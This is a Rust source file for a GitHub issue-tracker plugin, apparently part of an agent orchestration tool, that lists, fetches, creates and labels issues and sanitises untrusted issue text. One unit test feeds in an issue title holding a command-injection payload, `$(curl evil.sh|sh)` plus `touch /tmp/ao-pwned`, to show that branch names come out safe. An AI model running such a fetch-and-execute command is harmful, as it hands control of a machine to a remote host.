//! `github` tracker: issues of the project's repository, read over REST with ETags (an
//! unchanged issue costs a free 304), honouring the shared GitHub backoff.
//!
//! Issue ids are issue numbers (`42` or `#42`). Pull requests, which GitHub's issues
//! endpoints also return, are not issues here. Branch names are
//! `<prefix>/<number>-<slug of title>` and always pass `model::validate_branch`. Issue
//! text is untrusted: it is sanitised of control bytes here and fenced as data by the
//! prompt. Writes (create, assign, label) are plain REST calls.

use std::path::{Path, PathBuf};

use serde::Deserialize;
use serde_json::{Value, json};

use super::{Issue, IssueFilter, Tracker};
use crate::config::ProjectConfig;
use crate::plugins::PluginError;
use crate::plugins::github::{Connection, api_url_for};
use crate::sys::github::{Client, GitHubError, Token, encode_query};
use crate::sys::text::strip_control;

/// Pages read when listing issues (100 issues a page).
const MAX_PAGES: usize = 10;
/// The GitHub tracker for one project.
#[derive(Debug)]
pub struct GitHubTracker {
    conn: Connection,
    data_dir: PathBuf,
}

impl GitHubTracker {
    /// For a project: `repo` and `tracker.apiUrl` (else `scm.apiUrl` when the SCM is
    /// GitHub too); caches and backoff under `data_dir`.
    pub fn new(project_id: &str, project: &ProjectConfig, data_dir: &Path) -> Self {
        Self {
            conn: Connection::new(
                project_id,
                api_url_for(
                    project.tracker.as_ref(),
                    project.scm.as_ref(),
                    project.scm_name() == "github",
                ),
                project.repo.as_deref(),
            ),
            data_dir: data_dir.to_path_buf(),
        }
    }

    /// Uses `token` instead of looking one up (tests, embedding).
    pub fn with_token(self, token: Token) -> Self {
        self.conn.set_token(token);
        self
    }

    /// A client and the repository's REST path (`/repos/owner/name`) and display name.
    fn client(&self) -> Result<(Client, String, String), PluginError> {
        let (owner, name) = self.conn.repo()?;
        let client = self.conn.client(&self.data_dir, None, false)?;
        Ok((
            client,
            format!("/repos/{owner}/{name}"),
            format!("{owner}/{name}"),
        ))
    }

    /// Adds assignees to issue `id` (`POST …/issues/{n}/assignees`). Logins GitHub cannot
    /// assign are ignored by GitHub.
    pub fn assign(&self, id: &str, logins: &[String]) -> Result<(), PluginError> {
        let n = number(id)?;
        let (client, repo, _) = self.client()?;
        client
            .send_json(
                "POST",
                &format!("{repo}/issues/{n}/assignees"),
                &json!({ "assignees": logins }),
            )?
            .into_result()?;
        Ok(())
    }

    /// Adds labels to issue `id` (`POST …/issues/{n}/labels`).
    pub fn add_labels(&self, id: &str, labels: &[String]) -> Result<(), PluginError> {
        let n = number(id)?;
        let (client, repo, _) = self.client()?;
        client
            .send_json(
                "POST",
                &format!("{repo}/issues/{n}/labels"),
                &json!({ "labels": labels }),
            )?
            .into_result()?;
        Ok(())
    }
}

/// The issue number in `id` (`42`, `#42`).
fn number(id: &str) -> Result<u64, PluginError> {
    id.trim()
        .trim_start_matches('#')
        .parse::<u64>()
        .ok()
        .filter(|n| *n > 0)
        .ok_or_else(|| {
            PluginError::NotFound(format!(
                "`{}` is not a GitHub issue number",
                id.escape_default()
            ))
        })
}

#[derive(Debug, Deserialize)]
#[serde(untagged)]
enum LabelRef {
    Name(String),
    Object {
        #[serde(default)]
        name: Option<String>,
    },
}

#[derive(Debug, Deserialize)]
struct Login {
    #[serde(default)]
    login: String,
}

#[derive(Debug, Deserialize)]
struct RestIssue {
    number: u64,
    #[serde(default)]
    title: Option<String>,
    #[serde(default)]
    body: Option<String>,
    #[serde(default)]
    state: Option<String>,
    #[serde(default)]
    labels: Vec<LabelRef>,
    #[serde(default)]
    assignees: Option<Vec<Login>>,
    #[serde(default)]
    html_url: Option<String>,
    /// Present (an object) when the "issue" is a pull request.
    #[serde(default)]
    pull_request: Option<Value>,
}

impl RestIssue {
    fn is_pull_request(&self) -> bool {
        self.pull_request.as_ref().is_some_and(|v| !v.is_null())
    }

    fn into_issue(self) -> Issue {
        let clean = |s: &str| strip_control(s);
        Issue {
            id: self.number.to_string(),
            title: clean(self.title.as_deref().unwrap_or("")).replace('\n', " "),
            body: clean(self.body.as_deref().unwrap_or("")),
            labels: self
                .labels
                .into_iter()
                .filter_map(|l| match l {
                    LabelRef::Name(n) => Some(n),
                    LabelRef::Object { name } => name,
                })
                .map(|n| clean(&n))
                .collect(),
            state: self.state.unwrap_or_else(|| "open".into()),
            assignees: self
                .assignees
                .unwrap_or_default()
                .into_iter()
                .map(|a| clean(&a.login))
                .collect(),
            url: self.html_url,
            branch: None,
        }
    }
}

fn decode<T: for<'de> Deserialize<'de>>(v: Value, what: &str) -> Result<T, PluginError> {
    serde_json::from_value(v)
        .map_err(|e| PluginError::Unavailable(format!("unreadable GitHub answer for {what}: {e}")))
}

impl Tracker for GitHubTracker {
    fn name(&self) -> &'static str {
        "github"
    }

    fn get_issue(&self, id: &str) -> Result<Issue, PluginError> {
        let n = number(id)?;
        let (client, repo, shown) = self.client()?;
        let fetched = client.get_json(&format!("{repo}/issues/{n}"));
        let fetched = match fetched {
            Err(GitHubError::NotFound { .. }) => {
                return Err(PluginError::NotFound(format!("no issue #{n} in {shown}")));
            }
            other => other?,
        };
        let issue: RestIssue = decode(fetched.body, &format!("issue #{n}"))?;
        if issue.is_pull_request() {
            return Err(PluginError::NotFound(format!(
                "#{n} in {shown} is a pull request, not an issue"
            )));
        }
        Ok(issue.into_issue())
    }

    fn is_completed(&self, id: &str) -> Result<bool, PluginError> {
        Ok(self.get_issue(id)?.state == "closed")
    }

    fn list_issues(&self, filter: &IssueFilter) -> Result<Vec<Issue>, PluginError> {
        let (client, repo, _) = self.client()?;
        let state = match filter.state.as_deref().unwrap_or("open") {
            s @ ("open" | "closed" | "all") => s,
            other => {
                return Err(PluginError::Unsupported(format!(
                    "issue state `{}` (use open, closed or all)",
                    other.escape_default()
                )));
            }
        };
        let mut path =
            format!("{repo}/issues?state={state}&sort=created&direction=asc&per_page=100");
        if !filter.labels.is_empty() {
            path.push_str(&format!(
                "&labels={}",
                encode_query(&filter.labels.join(","))
            ));
        }
        if let Some(a) = &filter.assignee {
            path.push_str(&format!("&assignee={}", encode_query(a)));
        }
        let mut out = Vec::new();
        let mut next = Some(path);
        let mut pages = 0;
        while let Some(p) = next.take() {
            pages += 1;
            let fetched = client.get_json(&p)?;
            let items: Vec<RestIssue> = decode(fetched.body, "the issue list")?;
            out.extend(
                items
                    .into_iter()
                    .filter(|i| !i.is_pull_request())
                    .map(RestIssue::into_issue),
            );
            if pages < MAX_PAGES {
                next = fetched.next;
            }
        }
        Ok(out)
    }

    fn create_issue(&self, title: &str, body: &str) -> Result<Issue, PluginError> {
        let (client, repo, _) = self.client()?;
        let v = client
            .send_json(
                "POST",
                &format!("{repo}/issues"),
                &json!({ "title": title, "body": body }),
            )?
            .into_result()?;
        Ok(decode::<RestIssue>(v, "the new issue")?.into_issue())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::validate_branch;

    fn issue(id: &str, title: &str) -> Issue {
        Issue {
            id: id.into(),
            title: title.into(),
            body: String::new(),
            labels: vec![],
            state: "open".into(),
            assignees: vec![],
            url: None,
            branch: None,
        }
    }

    #[test]
    fn numbers() {
        assert_eq!(number("42").unwrap(), 42);
        assert_eq!(number("#7").unwrap(), 7);
        assert!(number("0").is_err());
        assert!(number("ENG-1").is_err());
        assert!(number("../1").is_err());
    }

    #[test]
    fn branch_names_are_safe() {
        let t = GitHubTracker::new("app", &ProjectConfig::default(), Path::new("/tmp"));
        let b = t.branch_name(
            &issue(
                "42",
                "Fix `id`; $(curl evil.sh|sh) \"; touch /tmp/ao-pwned; #",
            ),
            "ao",
        );
        assert_eq!(b, "ao/42-fix-id-curl-evil-sh-sh-touch-tmp-ao-pwne");
        assert!(validate_branch(&b).is_ok());
        assert_eq!(t.branch_name(&issue("7", "日本語"), "feat/"), "feat/7-task");
        assert_eq!(t.branch_name(&issue("7", "x"), "-bad"), "ao/7-x");
        assert_eq!(t.branch_name(&issue("7", "x"), "../x"), "ao/7-x");
    }

    #[test]
    fn decodes_openapi_issue_example() {
        let v: Value = serde_json::from_str(include_str!(
            "../../../tests/fixtures/github/rest/issue.json"
        ))
        .unwrap();
        // GitHub's example is an issue that is also a pull request (`pull_request` key);
        // a plain issue has no such key.
        let i: RestIssue = serde_json::from_value(v.clone()).unwrap();
        assert!(i.is_pull_request());
        let mut v = v;
        v.as_object_mut().unwrap().remove("pull_request");
        let i: RestIssue = serde_json::from_value(v).unwrap();
        assert!(!i.is_pull_request());
        let i = i.into_issue();
        assert_eq!(i.id, "1347");
        assert_eq!(i.title, "Found a bug");
        assert_eq!(i.labels, vec!["bug".to_owned()]);
        assert_eq!(
            i.url.as_deref(),
            Some("https://github.com/octocat/Hello-World/issues/1347")
        );
    }
}
